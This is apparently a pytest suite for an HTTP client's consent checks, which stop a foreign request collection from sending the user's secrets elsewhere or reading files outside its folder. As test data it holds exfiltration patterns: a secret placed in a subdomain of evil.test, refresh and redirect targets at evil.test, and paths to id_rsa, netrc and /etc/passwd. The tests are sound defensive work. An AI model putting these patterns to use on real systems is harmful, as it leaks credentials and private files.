"""What a foreign collection may do before its user agreed: read nothing outside, tell nobody."""

import os
import shutil
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from msgspec.structs import replace

from postwright.engine.errors import NeedsConsent, NotSent
from postwright.engine.files import LocalFiles
from postwright.engine.ports import Context
from postwright.engine.send import Engine
from postwright.model.collection import Environment, RequestRef
from postwright.model.consent import Ask
from postwright.model.exchange import Exchange
from postwright.model.options import (
    ClientCertificate,
    CollectionProxy,
    Config,
    Network,
    Options,
    Postwright,
    RedirectTrust,
    Tls,
)
from postwright.model.request import Auth, Body, Field, FileChoice, Part, Request, Variable
from postwright.storage.collections import CollectionFolder
from postwright.storage.paths import Paths
from postwright.workspace.workspace import Workspace
from tests.server import RawServer, Reply

CANARY = "canary-51f0c2"


@asynccontextmanager
async def opened(
    home: Path, root: Path, environment: dict[str, str] | None = None
) -> AsyncIterator[tuple[Workspace, RequestRef]]:
    """A workspace with a collection that somebody else wrote, with a secret of the user's in it."""
    if not root.exists():  # noqa: ASYNC240
        CollectionFolder.create(root, "Foreign")
    paths = Paths(home / "config", home / "data", home / "cache")
    engine = Engine(files=LocalFiles(), spool=paths.spool)
    workspace = Workspace(paths, engine, environment=environment or {})
    workspace.open(root)
    rows = (Variable("token", CANARY, secret=True),)
    if not workspace.opened(root).tree.environments:
        workspace.save_environment(root, Environment("prod", rows))
    workspace.choose_environment(root, "prod")
    try:
        yield workspace, RequestRef(str(root))
    finally:
        await engine.aclose()
        workspace.shut()


async def send(workspace: Workspace, request: Request, ref: RequestRef) -> Exchange:
    return await workspace.send(request, ref, workspace.context(ref))


async def asked(
    workspace: Workspace, request: Request, ref: RequestRef, context: Context | None = None
) -> tuple[Ask, ...]:
    """Return what stops the send."""
    with pytest.raises(NeedsConsent) as stopped:
        await workspace.send(request, ref, context or workspace.context(ref))
    return stopped.value.asks


def received(server: RawServer) -> bytes:
    return b"".join(got.head + got.body for got in server.requests)


# Secrets


def with_token(url: str) -> Request:
    return Request(url=url, headers=(Field("X-Key", "Bearer {{token}}"),))


async def test_a_secret_goes_nowhere_before_that_was_agreed(tmp_path: Path) -> None:
    async with RawServer() as server, opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        request = with_token(server.url)
        asks = await asked(own, request, ref)
        assert asks == (Ask("secret", "token", server.url, "prod", "header X-Key"),)
        assert not server.requests
        own.agree(ref, asks)
        await send(own, request, ref)
        assert CANARY.encode() in received(server)


async def test_an_agreement_is_for_one_secret_and_one_origin(tmp_path: Path) -> None:
    home, root = tmp_path / "home", tmp_path / "c"
    async with RawServer() as one, RawServer() as two, opened(home, root) as (own, ref):
        own.agree(ref, await asked(own, with_token(one.url), ref))
        await send(own, with_token(one.url), ref)
        assert [ask.origin for ask in await asked(own, with_token(two.url), ref)] == [two.url]
        row = Variable("other", "second-secret", secret=True)
        environment = own.opened(root).tree.environments[0]
        rows = (*environment.variables, row)
        own.save_environment(root, replace(environment, variables=rows), "prod")
        request = Request(url=one.url, headers=(Field("X", "{{token}}{{other}}"),))
        assert [ask.name for ask in await asked(own, request, ref)] == ["other"]
        own.save_environment(root, Environment("test", (Variable("token", "t", secret=True),)))
        own.choose_environment(root, "test")
        assert [ask.of for ask in await asked(own, with_token(one.url), ref)] == ["test"]
        assert not two.requests


async def test_agreements_come_back_and_a_copy_of_the_folder_has_none(tmp_path: Path) -> None:
    home, root, copy = tmp_path / "home", tmp_path / "c", tmp_path / "copy"
    async with RawServer() as server:
        request = with_token(server.url)
        async with opened(home, root) as (own, ref):
            own.agree(ref, await asked(own, request, ref))
        async with opened(home, root) as (own, ref):
            await send(own, request, ref)
        shutil.copytree(root, copy)
        async with opened(home, copy) as (own, ref):
            own.set_secret(copy, "prod", "token", CANARY)
            assert await asked(own, request, ref)
        assert len(server.requests) == 1


async def test_another_collection_in_the_same_place_has_none(tmp_path: Path) -> None:
    home, root = tmp_path / "home", tmp_path / "c"
    async with RawServer() as server:
        request = with_token(server.url)
        async with opened(home, root) as (own, ref):
            own.agree(ref, await asked(own, request, ref))
        shutil.rmtree(root)
        async with opened(home, root) as (own, ref):
            assert await asked(own, request, ref)
        assert not server.requests


async def test_agreements_for_a_collection_without_an_id_follow_when_it_gets_one(
    tmp_path: Path,
) -> None:
    home, root = tmp_path / "home", tmp_path / "c"
    outside = tmp_path / "f.txt"
    outside.write_text("x")
    CollectionFolder.create(root, "Foreign")
    paths = Paths(home / "config", home / "data", home / "cache")
    async with RawServer() as server:
        engine = Engine(files=LocalFiles(), spool=paths.spool)
        workspace = Workspace(paths, engine)
        workspace.open(root)
        ref = RequestRef(str(root))
        body = Body("file", files=(FileChoice(str(outside), selected=True),))
        request = Request(method="POST", url=server.url, body=body)
        assert workspace.opened(root).id == ""
        workspace.agree(ref, await asked(workspace, request, ref))
        workspace.set_secret(root, "", "later", "value")
        assert workspace.opened(root).id
        await send(workspace, request, ref)
        assert server.requests[0].body == b"x"
        await engine.aclose()
        workspace.shut()


async def test_what_was_made_here_is_trusted_with_its_secrets_but_not_with_files(
    tmp_path: Path,
) -> None:
    home, outside = tmp_path / "home", tmp_path / "f.txt"
    outside.write_text("x")
    async with RawServer() as server, opened(home, tmp_path / "c") as (own, _):
        root = own.create("Mine").root
        own.save_environment(root, Environment("prod", (Variable("token", CANARY, secret=True),)))
        own.choose_environment(root, "prod")
        await send(own, with_token(server.url), RequestRef(str(root)))
        body = Body("file", files=(FileChoice(str(outside), selected=True),))
        request = Request(method="POST", url=server.url, body=body)
        asks = await asked(own, request, RequestRef(str(root)))
        assert [(ask.kind, ask.name) for ask in asks] == [("file", str(outside))]
        # What is put there later is not what was made here.
        shutil.rmtree(root)
        CollectionFolder.create(root, "Mine")
        own.reload(root)
        own.save_environment(root, Environment("prod", (Variable("token", CANARY, secret=True),)))
        assert await asked(own, with_token(server.url), RequestRef(str(root)))


_API = "https://api.test"
_TOKEN = Variable("token", CANARY, secret=True)
_OAUTH = (
    ("flow", "client_credentials"),
    ("accessTokenUrl", "https://login.test/token"),
    ("credentials.clientId", "id"),
    ("credentials.clientSecret", "{{token}}"),
)


def ours(**members: object) -> Options:
    return Options(postwright=Postwright(**members))  # type: ignore[arg-type]


PLACES: dict[str, tuple[Request, set[tuple[str, str]]]] = {
    "header": (with_token(_API), {("token", _API)}),
    "url": (Request(url=_API + "/?k={{token}}"), {("token", _API)}),
    "host": (
        Request(url="https://{{token}}.evil.test"), {("token", f"https://{CANARY}.evil.test")}
    ),
    "body": (
        Request(method="POST", url=_API, body=Body("text", text="{{token}}")), {("token", _API)}
    ),
    "through another variable": (
        Request(
            url=_API, headers=(Field("X", "{{a}}"),), variables=(Variable("a", "x {{token}}"),)
        ),
        {("token", _API)},
    ),
    "basic": (
        Request(url=_API, auth=Auth("basic", (("username", "u"), ("password", "{{token}}")))),
        {("token", _API)},
    ),
    "a signature": (
        Request(
            url=_API,
            auth=Auth("awsv4", (
                ("accessKeyId", "a"), ("secretAccessKey", "{{token}}"), ("service", "s3"),
                ("region", "r"),
            )),
        ),
        {("token", _API)},
    ),
    "token endpoint": (
        Request(url=_API, auth=Auth("oauth2", _OAUTH)),
        {("token", "https://login.test"), ("OAuth 2.0 token", _API)},
    ),
    "refresh endpoint": (
        Request(
            url=_API, auth=Auth("oauth2", (*_OAUTH, ("refreshTokenUrl", "https://evil.test/r")))
        ),
        {
            ("token", "https://login.test"), ("token", "https://evil.test"),
            ("OAuth 2.0 token", _API), ("OAuth 2.0 token", "https://evil.test"),
        },
    ),
    "redirects that may take it": (
        replace(
            with_token(_API), options=ours(redirects=RedirectTrust(forward_to=("https://evil.test",)))
        ),
        {("token", _API), ("token", "https://evil.test")},
    ),
    "another address in clear": (
        replace(
            with_token("http://api.test"),
            options=ours(network=Network(hosts=(("api.test", "10.0.0.1:8080"),))),
        ),
        {("token", "http://api.test"), ("token", "http://10.0.0.1:8080")},
    ),
    "another address, proved by its certificate": (
        replace(
            with_token(_API), options=ours(network=Network(hosts=(("api.test", "10.0.0.1"),)))
        ),
        {("token", _API)},
    ),
    "another address, unchecked": (
        replace(
            with_token(_API),
            options=ours(
                network=Network(hosts=(("api.test", "10.0.0.1"),)), tls=Tls(verify=False)
            ),
        ),
        {("token", _API), ("token", "https://10.0.0.1")},
    ),
    "the request's proxy in clear": (
        replace(
            with_token("http://api.test"),
            options=ours(network=Network(proxy="http://proxy.test:3128")),
        ),
        {("token", "http://api.test"), ("token", "http://proxy.test:3128")},
    ),
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
async def test_every_place_that_a_secret_would_go_to_is_named(tmp_path: Path, place: str) -> None:
    request, expected = PLACES[place]
    async with opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        asks = await asked(own, request, ref)
        assert {(ask.name, ask.origin) for ask in asks} == expected


async def test_the_password_of_the_collections_proxy_goes_to_it_alone(tmp_path: Path) -> None:
    async with opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        proxy = CollectionProxy(
            inherit=False, host="proxy.test", port="3128", signs_in=True, user="u",
            password="{{token}}",
        )  # fmt: skip
        tree = own.opened(tmp_path / "c").tree
        own.opened(tmp_path / "c").tree = replace(tree, config=Config(proxy=proxy))
        asks = await asked(own, Request(url=_API), ref)
        assert [(a.name, a.origin) for a in asks] == [("token", "http://proxy.test:3128")]


async def test_a_value_of_dotenv_is_asked_for_like_a_secret(tmp_path: Path) -> None:
    async with RawServer() as server, opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        (tmp_path / "c/.env").write_text(f"KEY={CANARY}\nPORT=8080\n")
        request = Request(url=server.url, headers=(Field("X", "{{process.env.KEY}}"),))
        asks = await asked(own, request, ref)
        assert [(a.kind, a.name, a.origin) for a in asks] == [("process", "KEY", server.url)]
        await send(own, Request(url=server.url + "/{{process.env.PORT}}"), ref)
        assert CANARY.encode() not in received(server)


async def test_a_name_of_the_process_environment_is_a_question_for_its_collection(
    tmp_path: Path,
) -> None:
    home, root = tmp_path / "home", tmp_path / "c"
    async with RawServer() as server, opened(home, root, {"AWS_KEY": CANARY}) as (own, ref):
        request = Request(url=server.url, headers=(Field("X", "{{process.env.AWS_KEY}}"),))
        context = own.context(ref)
        with pytest.raises(NotSent) as stopped:
            await own.send(request, ref, context)
        question = own.question(stopped.value, request, ref, context)
        assert question is not None
        assert [(a.kind, a.name, a.origin) for a in question.asks] == [
            ("name", "AWS_KEY", server.url)
        ]
        own.agree(ref, question.asks)
        own.agree(ref, await asked(own, request, ref))  # and now for where it goes
        await send(own, request, ref)
        assert CANARY.encode() in received(server)
        context = own.context(ref)
        unknown = Request(url=server.url + "/{{process.env.NONE}}")
        with pytest.raises(NotSent) as stopped:
            own.prepare(unknown, ref, context)
        assert own.question(stopped.value, unknown, ref, context) is None


async def test_a_request_in_no_collection_may_do_what_it_says(tmp_path: Path) -> None:
    outside = tmp_path / "f.txt"
    outside.write_text("typed")
    async with RawServer() as server, opened(tmp_path / "home", tmp_path / "c") as (own, _):
        body = Body("file", files=(FileChoice(str(outside), selected=True),))
        request = Request(method="POST", url=server.url, body=body)
        await send(own, request, RequestRef(draft="1"))
        assert server.requests[0].body == b"typed"


async def test_a_redirect_takes_no_secret_to_a_new_origin(tmp_path: Path) -> None:
    async with RawServer() as other:
        reply = Reply(302, headers=(("Location", other.url),))
        async with (
            RawServer(reply) as server,
            opened(tmp_path / "home", tmp_path / "c") as (own, ref),
        ):
            request = Request(
                url=server.url, headers=(Field("X-Anything", "{{token}}"),),
                auth=Auth("bearer", (("token", "{{token}}"),)),
            )  # fmt: skip
            own.agree(ref, await asked(own, request, ref))
            await send(own, request, ref)
            assert CANARY.encode() in received(server)
            assert other.requests
            assert CANARY.encode() not in received(other)


async def test_what_a_server_said_is_never_read_as_a_variable(tmp_path: Path) -> None:
    async with RawServer() as server, opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        request = Request(url=server.url, headers=(Field("X", "{{got}} {{via}}"),))
        request = replace(request, variables=(Variable("via", "<{{got}}>"),))
        context = replace(own.context(ref), captured={"got": "{{token}}"})
        await own.send(request, ref, context)
        assert server.requests[0].header("x") == "{{token}} <{{token}}>"


# Files


def _body(path: str) -> Request:
    return Request(method="POST", body=Body("file", files=(FileChoice(path, selected=True),)))


def _part(path: str) -> Request:
    part = Part("f", "file", files=(path,))
    return Request(method="POST", body=Body("multipart-form", parts=(part,)))


def _variable(path: str) -> Request:
    return replace(_body("{{where}}"), variables=(Variable("where", path),))


def _auth(kind: str, *pairs: tuple[str, str]) -> Callable[[str], Request]:
    def made(path: str) -> Request:
        filled = tuple((name, value.replace("PATH", path)) for name, value in pairs)
        return Request(auth=Auth(kind, filled))

    return made


def _tls(**names: str) -> Callable[[str], Request]:
    def made(path: str) -> Request:
        return Request(options=ours(tls=Tls(**dict.fromkeys(names, path))))

    return made


FILES: dict[str, Callable[[str], Request]] = {
    "body": _body,
    "part": _part,
    "variable": _variable,
    "netrc": _auth("netrc", ("file", "PATH")),
    "aws": _auth("awsv4", ("profileName", "p"), ("profileFile", "PATH"), ("service", "s"),
                 ("region", "r")),
    "oauth1": _auth("oauth1", ("consumerKey", "k"), ("signatureMethod", "RSA-SHA256"),
                    ("privateKey.type", "file"), ("privateKey.value", "PATH")),
    "ca": _tls(ca=""),
    "certificate": _tls(cert=""),
    "key": _tls(cert="", cert_key=""),
}  # fmt: skip


@pytest.mark.parametrize("way", ["absolute", "parent", "link", "folder link"])
@pytest.mark.parametrize("place", FILES)
async def test_no_file_outside_is_read_before_that_was_agreed(
    tmp_path: Path, place: str, way: str
) -> None:
    root, outside = tmp_path / "c", tmp_path / "outside"
    outside.mkdir()
    target = outside / "id_rsa"
    target.write_text(f"machine 127.0.0.1 login u password {CANARY}\n[p]\n{CANARY}\n")
    async with RawServer() as server, opened(tmp_path / "home", root) as (own, ref):
        (root / "link").symlink_to(target)
        (root / "dir").symlink_to(outside)
        path = {
            "absolute": str(target), "parent": "../outside/id_rsa", "link": "link",
            "folder link": "dir/id_rsa",
        }[way]  # fmt: skip
        request = replace(FILES[place](path), url=server.url)
        read: list[str] = []
        context = own.context(ref)
        context = replace(context, read=lambda path: read.append(path) or context.read(path))
        asks = await asked(own, request, ref, context)
        assert {(a.kind, a.name, a.origin) for a in asks} == {("file", str(target), server.url)}
        assert own.stopping(request, ref, context)
        assert not server.requests
        assert not read
        # From here on the file may be read; what is in it may still be of no use.
        own.agree(ref, asks)
        stopped = [p.kind for p in own.stopping(request, ref, own.context(ref))]
        assert "consent" not in stopped
        assert own.context(ref).files(path).size_bytes == target.stat().st_size


async def test_the_clients_certificates_of_the_collection_are_no_way_out(tmp_path: Path) -> None:
    root, outside = tmp_path / "c", tmp_path / "me.pem"
    outside.write_text(CANARY)
    async with opened(tmp_path / "home", root) as (own, ref):
        row = ClientCertificate("*.test", str(outside))
        tree = own.opened(root).tree
        config = Config(client_certificates=(row,))
        own.opened(root).tree = replace(tree, config=config)
        asks = await asked(own, Request(url="https://api.test"), ref)
        assert [(a.kind, a.name, a.origin) for a in asks] == [("file", str(outside), _API)]


@pytest.mark.parametrize("place", ["body", "part", "netrc", "ca"])
@pytest.mark.parametrize("name", ["pipe", "/dev/zero", "file:///etc/passwd", "\\\\host\\share\\f"])
async def test_only_regular_files_are_files(tmp_path: Path, place: str, name: str) -> None:
    root = tmp_path / "c"
    async with RawServer() as server, opened(tmp_path / "home", root) as (own, ref):
        os.mkfifo(root / "pipe")
        with pytest.raises(NotSent) as stopped:
            await send(own, replace(FILES[place](name), url=server.url), ref)
        assert stopped.value.kind == "file"
        assert not server.requests


@pytest.mark.parametrize("kind", ["pipe", "link"])
async def test_a_dotenv_that_is_none_is_not_read(tmp_path: Path, kind: str) -> None:
    root = tmp_path / "c"
    (tmp_path / "keys").write_text(f"KEY={CANARY}\n")
    async with opened(tmp_path / "home", root) as (own, ref):
        if kind == "pipe":
            os.mkfifo(root / ".env")
        else:
            (root / ".env").symlink_to(tmp_path / "keys")
        assert own.context(ref).process_env == {}


async def test_files_inside_need_no_word(tmp_path: Path) -> None:
    root = tmp_path / "c"
    async with RawServer() as server, opened(tmp_path / "home", root) as (own, ref):
        (root / "a.txt").write_text("inside")
        (root / "b.txt").symlink_to(root / "a.txt")
        for path in ("a.txt", "b.txt", str(root / "a.txt"), "x/../a.txt"):
            await send(own, replace(_body(path), url=server.url), ref)
        assert [got.body for got in server.requests] == [b"inside"] * 4


async def test_the_users_own_ca_file_needs_no_word(tmp_path: Path) -> None:
    ca = tmp_path / "ca.pem"
    ca.write_text("x")
    async with RawServer() as server, opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        own.change_settings(replace(own.settings, ca_file=str(ca)))
        await send(own, Request(url=server.url), ref)
        assert server.requests


async def test_a_question_keeps_where_each_secret_would_go(tmp_path: Path) -> None:
    async with opened(tmp_path / "home", tmp_path / "c") as (own, ref):
        request = Request(url=_API, auth=Auth("oauth2", _OAUTH))
        context = own.context(ref)
        asks = await asked(own, request, ref, context)
        question = own.question(NeedsConsent(asks), request, ref, context)
        assert question is not None
        assert question.asks == asks
